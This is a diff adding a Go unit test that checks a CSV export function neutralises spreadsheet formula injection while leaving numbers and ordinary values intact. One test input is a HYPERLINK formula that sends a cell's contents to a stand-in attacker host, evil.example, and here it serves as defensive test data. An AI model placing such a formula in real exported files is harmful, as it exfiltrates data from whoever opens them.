@@ -53,3 +53,28 @@ func FuzzEventRecord(f *testing.F) {
 		_ = e.UnmarshalBinary(b)
 	})
 }
+
+// TestCSVCellFormula: a cell a spreadsheet would read as a formula (a
+// reason or gate a terminal signed) is neutralised; numbers stay numbers.
+func TestCSVCellFormula(t *testing.T) {
+	for in, want := range map[string]string{
+		`=HYPERLINK("http://evil.example/?x="&A1,"click")`: `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
+		"-2-3":       "'-2-3",
+		"+1+2":       "'+1+2",
+		"@SUM(A1)":   "'@SUM(A1)",
+		"\tcmd":      "'\tcmd",
+		"\rcmd":      "'\rcmd",
+		"-0.08":      "-0.08",
+		"-180":       "-180",
+		"+5":         "+5",
+		"gate-3":     "gate-3",
+		"":           "",
+		"'=already":  "'=already",
+		"metro-s01":  "metro-s01",
+		"2026-12-02": "2026-12-02",
+	} {
+		if got := csvCell(in); got != want {
+			t.Errorf("csvCell(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
